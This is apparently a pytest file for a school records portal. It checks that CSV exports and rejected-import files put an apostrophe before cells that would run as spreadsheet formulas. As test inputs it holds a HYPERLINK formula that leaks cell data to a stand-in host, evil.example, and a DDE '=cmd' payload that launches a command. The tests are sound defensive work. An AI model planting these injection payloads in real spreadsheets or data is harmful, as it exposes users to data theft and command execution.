"""Every CSV the portal hands to people is safe to open in a spreadsheet: a cell that would run as a formula (it
begins with = + - @, a tab or a carriage return) is written with a leading apostrophe, in each export."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest

from portal.extensions import db
from portal.models import Mark
from portal.services import csv_files, subject_access
from portal.services.exports import export_marks
from portal.services.imports import import_pupils

from factories import BOTHAL, add_marks, load_trust, make_pupil
from services.test_imports import PUPIL_COLUMNS, pupil_row, write_csv
from staff import make_staff

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+44 191", "'+44 191"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Sam = ill", "Sam = ill"), ("", ""), (None, ""), (20, "20"),
])
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe(value, written):
    assert csv_files.cell(value) == written


def comment_mark(pupil, source: str) -> None:
    add_marks(pupil, [(date(2026, 10, 1), "AM", "I")], source=source, recorded_at=datetime(2026, 10, 2, 9, 0),
              recorded_by="staff:1")
    mark = db.session.query(Mark).filter_by(pupil_id=pupil.id).one()
    mark.comment = HYPERLINK
    db.session.commit()


def test_the_subject_access_marks_csv_defuses_a_register_comment(app_ctx):
    load_trust()
    sam = make_pupil(BOTHAL, forename="Sam")
    comment_mark(sam, "mis")
    head = make_staff("head@bothal.example", "headteacher", BOTHAL)
    data = subject_access.family_export(head, sam.id, now=datetime(2026, 11, 23, 10, 0))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("marks.csv").decode("utf-8"))))
    assert rows[0]["comment"] == "'" + HYPERLINK


def test_export_marks_defuses_a_comment(app_ctx, tmp_path):
    load_trust()
    comment_mark(make_pupil(BOTHAL), "portal")
    export_marks(tmp_path / "marks.csv")
    with open(tmp_path / "marks.csv", encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["comment"] == "'" + HYPERLINK


def test_the_rejected_rows_file_defuses_what_the_mis_sent(app_ctx, tmp_path):
    load_trust()
    rows = [pupil_row(1), pupil_row(2, legal_forename="=cmd|' /C calc'!A0", year_group="Y99")]
    path = write_csv(tmp_path / "pupils.csv", PUPIL_COLUMNS, rows)
    import_pupils(path, "test", skip_invalid=True)
    with open(tmp_path / "pupils.rejected.csv", encoding="utf-8", newline="") as handle:
        [rejected] = list(csv.DictReader(handle))
    assert rejected["legal_forename"] == "'=cmd|' /C calc'!A0"
